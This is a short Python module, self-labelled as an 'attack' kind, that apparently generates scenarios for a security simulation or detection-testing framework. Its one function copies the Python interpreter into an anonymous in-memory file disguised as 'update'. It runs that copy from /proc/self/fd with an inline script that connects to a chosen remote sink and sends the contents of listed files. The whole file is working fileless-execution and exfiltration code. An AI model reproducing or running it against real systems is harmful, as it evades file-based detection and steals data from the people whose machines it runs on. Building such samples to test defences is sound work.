# SPDX-License-Identifier: GPL-3.0-or-later
"""A program that was never in a file, held in memory and run from there."""
import os
import random
import subprocess

KIND = "attack"


def product(world):
    fd = os.memfd_create("update", 0)
    with open(world["interpreter"], "rb") as file:
        os.write(fd, file.read())
    address, port = random.Random(world["seed"]).choice(world["sinks"])
    script = ("import sys,socket\n"
              "s=socket.create_connection((sys.argv[1],int(sys.argv[2])))\n"
              "[s.sendall(open(p,'rb').read()) for p in sys.argv[3:]]\n")
    subprocess.run([f"/proc/self/fd/{fd}", "-S", "-c", script, address, str(port), *world["files"]], check=True,
                   pass_fds=[fd])
